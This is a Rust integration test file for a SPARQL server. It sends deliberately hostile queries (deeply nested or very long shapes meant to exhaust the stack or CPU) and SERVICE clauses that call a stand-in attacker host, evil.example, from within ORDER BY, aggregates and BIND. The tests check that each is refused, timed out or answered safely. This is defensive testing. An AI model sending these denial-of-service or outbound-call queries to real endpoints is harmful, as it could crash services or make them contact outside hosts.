//! Hostile SPARQL against the real binary and the in-process server: no query text can crash the
//! process (deep nesting, long chains — each refused with `query_too_complex` or answered), the
//! timeout stops every query shape (products of 3–5 factors with COUNT, GROUP BY, ORDER BY,
//! GROUP_CONCAT and VALUES), and shutting down does not wait for running queries.

use std::process::Child;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::crash::serve_with;
use crate::helpers::{TestDatabase, spawn_app, spawn_app_with};

/// The shapes that overflowed the stack (each as the reproduction names it) and shapes just
/// under the limits, which must be answered.
fn corpus() -> Vec<(&'static str, String)> {
    let n = |count: usize, item: &str, sep: &str| vec![item; count].join(sep);
    vec![
        (
            "1 000 nested groups",
            format!("ASK {}{}", "{".repeat(1000), "}".repeat(1000)),
        ),
        (
            "1 000 nested parentheses in a FILTER",
            format!(
                "ASK {{ FILTER({}true{}) }}",
                "(".repeat(1000),
                ")".repeat(1000)
            ),
        ),
        (
            "a 1 000-deep RDF collection",
            format!("ASK {{ ?s ?p {}1{} }}", "(".repeat(1000), ")".repeat(1000)),
        ),
        (
            "1 000 nested blank-node property lists",
            format!(
                "ASK {{ ?s ?p {}1{} }}",
                "[ <http://x/p> ".repeat(1000),
                " ]".repeat(1000)
            ),
        ),
        (
            "2 000 nested OPTIONALs",
            format!(
                "ASK {{ ?s ?p ?o {}{} }}",
                "OPTIONAL { ?s ?p ?o ".repeat(2000),
                "}".repeat(2000)
            ),
        ),
        (
            "1 000 UNION branches",
            format!("ASK {{ {} }}", n(1000, "{ ?s ?p ?o }", " UNION ")),
        ),
        (
            "a 10 000-term || chain",
            format!("ASK {{ ?s ?p ?o FILTER({}) }}", n(10_000, "?o = 1", " || ")),
        ),
        (
            // Deep enough to overflow even the query threads' stack when the scan takes the
            // brackets for an IRI's characters.
            "150 000 parentheses between < and >",
            format!(
                "ASK {{ FILTER(1 <{}1{}> 2) }}",
                "(".repeat(150_000),
                ")".repeat(150_000)
            ),
        ),
        (
            "5 000 !",
            format!("ASK {{ ?s ?p ?o FILTER({}true) }}", "!".repeat(5000)),
        ),
        (
            "a 20 000-step path",
            format!("ASK {{ ?s {} ?o }}", n(20_000, "<http://x/p>", "/")),
        ),
        (
            "3 000 groups in a row",
            format!("ASK {{ {} }}", n(3000, "{ ?s ?p ?o }", " ")),
        ),
        (
            "5 000 triple patterns",
            format!(
                "ASK {{ {} }}",
                (0..5000)
                    .map(|i| format!("?s <http://x/p{i}> ?o{i} ."))
                    .collect::<String>()
            ),
        ),
        (
            "1 000 unary minus",
            format!("ASK {{ FILTER({}1 = 1) }}", "- ".repeat(1000)),
        ),
        (
            "1 000 nested sub-selects",
            format!(
                "SELECT * {{ {}?s ?p ?o{} }}",
                "{ SELECT * { ".repeat(1000),
                " } }".repeat(1000)
            ),
        ),
        (
            "1 000 nested EXISTS",
            format!(
                "ASK {{ ?s ?p ?o {}{} }}",
                "FILTER EXISTS { ?s ?p ?o ".repeat(1000),
                "}".repeat(1000)
            ),
        ),
        // Just under the limits: answered.
        (
            "60 nested groups",
            format!("ASK {}?s ?p ?o{}", "{".repeat(60), "}".repeat(60)),
        ),
        (
            "400 UNION branches",
            format!("ASK {{ {} }}", n(400, "{ ?s ?p ?o }", " UNION ")),
        ),
        (
            "a 400-term || chain",
            format!("ASK {{ ?s ?p ?o FILTER({}) }}", n(400, "?o = 1", " || ")),
        ),
        (
            "a 400-step path",
            format!("ASK {{ ?s {} ?o }}", n(400, "<http://x/p>", "/")),
        ),
        (
            "60 !",
            format!("ASK {{ ?s ?p ?o FILTER({}true) }}", "!".repeat(60)),
        ),
        (
            "400 groups in a row",
            format!("ASK {{ {} }}", n(400, "{ ?s ?p ?o }", " ")),
        ),
        (
            "a 1 MB VALUES list",
            format!(
                "SELECT (COUNT(*) AS ?n) {{ VALUES ?v {{ {} }} }}",
                (0..100_000).map(|i| format!("{i} ")).collect::<String>()
            ),
        ),
    ]
}

fn alive(child: &mut Child) -> bool {
    child.try_wait().unwrap().is_none()
}

#[tokio::test]
async fn no_query_shape_can_crash_the_process() {
    let db = TestDatabase::new().await;
    let (mut child, base) = serve_with(&db, &[("ODCAT_SPARQL_TIMEOUT", "3")]).await;
    let client = crate::helpers::test_client();
    let mut answered = 0;
    let mut timed_out = 0;
    let mut outcomes = Vec::new();
    for (name, query) in corpus() {
        for post in [false, true] {
            let request = if post {
                client
                    .post(format!("{base}/sparql"))
                    .header("Content-Type", "application/sparql-query")
                    .body(query.clone())
            } else {
                client
                    .post(format!("{base}/sparql"))
                    .form(&[("query", query.as_str())])
            };
            let response = request
                .header("Accept", "application/sparql-results+json")
                .send()
                .await;
            assert!(alive(&mut child), "the process died on {name}");
            let response = response.unwrap_or_else(|e| panic!("{name}: {e}"));
            let status = response.status().as_u16();
            let body: Value = response.json().await.unwrap();
            outcomes.push(format!("{name}: {status}"));
            match status {
                200 => answered += 1,
                // Evaluated safely, only slowly: stopped by the timeout like any slow query.
                503 => {
                    assert_eq!(body["error"]["code"], "query_timeout", "{name}: {body}");
                    timed_out += 1;
                }
                // Refused for its shape, or (`!!`, not SPARQL) as a syntax error.
                400 => assert!(
                    ["query_too_complex", "invalid_query"]
                        .contains(&body["error"]["code"].as_str().unwrap_or("")),
                    "{name}: {body}"
                ),
                _ => panic!("{name} answered {status}: {body}"),
            }
        }
    }
    // The shapes under the limits were evaluated, not refused: six shapes, twice each (`!!` is no
    // SPARQL). Answered or stopped by the timeout: 400 joined groups always time out, and on a loaded
    // machine (a debug build beside other builds) the 400-term `||` chain may too.
    assert!(
        answered >= 8 && answered + timed_out >= 12,
        "only {answered} answers and {timed_out} timeouts: {outcomes:#?}"
    );
    let health = client.get(format!("{base}/healthz")).send().await.unwrap();
    assert!(health.status().is_success());
    child.kill().unwrap();
    child.wait().unwrap();
}

#[tokio::test]
async fn deep_queries_are_refused_with_query_too_complex_naming_the_limit() {
    let app = spawn_app().await;
    let response = app
        .client
        .get(app.url("/sparql"))
        .query(&[(
            "query",
            format!("ASK {}{}", "{".repeat(1000), "}".repeat(1000)),
        )])
        .send()
        .await
        .unwrap();
    let message = crate::helpers::assert_error(response, 400, "query_too_complex").await;
    assert!(message.contains("64 deep"), "{message}");
}

/// Products that never read the store again once their factors are read: the timeout must stop them
/// all the same.
fn slow_queries() -> Vec<(&'static str, String)> {
    let values = |var: &str| {
        format!(
            "VALUES ?{var} {{ {} }}",
            (0..1000).map(|i| format!("{i} ")).collect::<String>()
        )
    };
    vec![
        (
            "3-factor COUNT",
            "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }".into(),
        ),
        (
            "4-factor COUNT",
            "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }".into(),
        ),
        (
            "5-factor COUNT",
            "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n2 ?o }"
                .into(),
        ),
        (
            "3-factor GROUP BY",
            "SELECT ?b (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } GROUP BY ?b".into(),
        ),
        (
            "4-factor ORDER BY",
            "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l } ORDER BY ?c ?f LIMIT 1"
                .into(),
        ),
        (
            "3-factor GROUP_CONCAT",
            "SELECT (GROUP_CONCAT(STR(?c)) AS ?all) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
                .into(),
        ),
        (
            "three 1 000-value VALUES lists",
            format!(
                "SELECT (COUNT(*) AS ?n) WHERE {{ {} {} {} }}",
                values("x"),
                values("y"),
                values("z")
            ),
        ),
        (
            "VALUES times a 2-factor product, ordered",
            format!(
                "SELECT ?x ?c WHERE {{ {} ?a ?b ?c . ?d ?e ?f }} ORDER BY DESC(?c) LIMIT 1",
                values("x")
            ),
        ),
        (
            "5-factor DISTINCT COUNT",
            "SELECT (COUNT(DISTINCT ?c) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n2 ?o }"
                .into(),
        ),
    ]
}

#[tokio::test]
async fn the_timeout_stops_every_query_shape_and_frees_its_thread() {
    let app = spawn_app_with(|s| s.sparql_timeout = 1).await;
    let timeout = Duration::from_secs(1);
    for (name, query) in slow_queries() {
        let started = Instant::now();
        let response = app
            .client
            .post(app.url("/sparql"))
            .form(&[("query", query.as_str())])
            .send()
            .await
            .unwrap();
        let took = started.elapsed();
        let status = response.status().as_u16();
        let body: Value = response.json().await.unwrap();
        assert_eq!(status, 503, "{name}: {body}");
        assert_eq!(body["error"]["code"], "query_timeout", "{name}: {body}");
        assert!(
            took < timeout + Duration::from_secs(1),
            "{name} answered after {took:?}"
        );
        // The evaluation itself stopped: its thread is gone within 2 s.
        let stopped = Instant::now();
        while app.sparql.running() > 0 {
            assert!(
                stopped.elapsed() < Duration::from_secs(2),
                "{name} still evaluates 2 s after its answer"
            );
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
}

#[tokio::test]
async fn sigterm_stops_the_server_promptly_while_queries_run() {
    let db = TestDatabase::new().await;
    let (mut child, base) = serve_with(&db, &[("ODCAT_SPARQL_TIMEOUT", "300")]).await;
    let client = crate::helpers::test_client();
    let running: Vec<_> = slow_queries()
        .into_iter()
        .take(3)
        .map(|(_, query)| {
            let client = client.clone();
            let url = format!("{base}/sparql");
            tokio::spawn(async move {
                client
                    .post(url)
                    .form(&[("query", query.as_str())])
                    .send()
                    .await
                    .map(|r| r.status().as_u16())
            })
        })
        .collect();
    tokio::time::sleep(Duration::from_millis(700)).await;
    assert!(alive(&mut child));
    let started = Instant::now();
    let status = std::process::Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(status.success());
    let exit = loop {
        if let Some(exit) = child.try_wait().unwrap() {
            break exit;
        }
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "odcat still runs 5 s after SIGTERM"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    assert!(exit.success(), "{exit:?}");
    for query in running {
        // Each query was answered (503 `shutting_down`) or its connection closed; none hangs.
        if let Ok(status) = query.await.unwrap() {
            assert_eq!(status, 503);
        }
    }
}

#[tokio::test]
async fn the_bookkeeping_graph_is_in_no_graph_listing() {
    let app = spawn_app().await;
    for query in [
        "SELECT ?g { GRAPH ?g {} }",
        "SELECT DISTINCT ?g { GRAPH ?g { } } ORDER BY ?g",
        "SELECT ?g { { SELECT ?g { GRAPH ?g {} } } }",
        "SELECT ?g { ?s ?p ?o OPTIONAL { GRAPH ?g {} } } LIMIT 50",
        "SELECT ?g { FILTER EXISTS { GRAPH ?g {} } VALUES ?g { <urn:x> } }",
    ] {
        let response = app
            .client
            .get(app.url("/sparql"))
            .query(&[("query", query)])
            .header("Accept", "application/sparql-results+json")
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), 200, "{query}");
        let body: Value = response.json().await.unwrap();
        let graphs: Vec<&str> = body["results"]["bindings"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|b| b["g"]["value"].as_str())
            .collect();
        assert!(
            graphs.iter().all(|g| !g.starts_with("urn:odcat")),
            "{query}: {graphs:?}"
        );
    }
    let body: Value = app
        .client
        .get(app.url("/sparql"))
        .query(&[("query", "SELECT (COUNT(?g) AS ?n) { GRAPH ?g {} }")])
        .header("Accept", "application/sparql-results+json")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let n: u64 = body["results"]["bindings"][0]["n"]["value"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!(n > 10, "the dataset graphs are still listed: {n}");
}

#[tokio::test]
async fn service_is_refused_in_order_by_aggregates_and_binds() {
    let app = spawn_app().await;
    for query in [
        "SELECT * { ?s ?p ?o } ORDER BY (EXISTS { SERVICE <http://evil.example/sparql> { ?s ?p ?x } })",
        "SELECT (SUM(IF(EXISTS { SERVICE <http://evil.example/sparql> { ?s ?p ?x } }, 1, 0)) AS ?n) { ?s ?p ?o }",
        "SELECT ?s { ?s ?p ?o } GROUP BY ?s HAVING (EXISTS { SERVICE <http://evil.example/sparql> { } })",
        "SELECT * { ?s ?p ?o BIND(EXISTS { SERVICE <http://evil.example/sparql> { } } AS ?x) }",
    ] {
        let response = app
            .client
            .get(app.url("/sparql"))
            .query(&[("query", query)])
            .send()
            .await
            .unwrap();
        let message = crate::helpers::assert_error(response, 403, "service_refused").await;
        assert!(message.contains("evil.example"), "{query}: {message}");
    }
}
